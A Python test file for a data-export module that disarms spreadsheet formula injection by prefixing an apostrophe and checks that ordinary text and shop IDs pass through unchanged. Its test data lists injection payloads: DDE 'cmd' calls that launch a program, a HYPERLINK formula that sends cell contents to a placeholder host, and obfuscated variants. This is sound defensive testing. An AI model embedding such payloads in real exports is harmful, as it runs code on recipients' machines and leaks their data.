"""A cell that a spreadsheet would run is disarmed, or refuses the export where it must stay as it is."""

from __future__ import annotations

import polars as pl
import pytest

from ml.audiences.export.formulas import disarmed, running_ids

ATTACKS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?a="&A1,"ok")',
    "+1*cmd|'x'!A1",
    "\t=1+cmd|'x'!A1",
    "  =WEBSERVICE(A1)",
    "＝cmd|'x'!A1",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_gets_an_apostrophe_as_text_and_is_counted_as_an_id(attack: str) -> None:
    assert disarmed(pl.Series("x", [attack])).to_list() == [f"'{attack}"]
    assert running_ids(pl.Series([attack])) == 1


def test_what_is_no_formula_stays_as_it_is() -> None:
    texts = ["bought wine 3 times", "3 - 1", "a=b", "", None, "’tis", "买了葡萄酒"]
    assert disarmed(pl.Series("x", texts)).to_list() == texts


def test_ids_of_real_shops_are_no_attacks() -> None:
    assert running_ids(pl.Series(["-12", "+493012345678", "-aZ_7", "@someone", "a=b(c)", "s 1", "用户1", None])) == 0
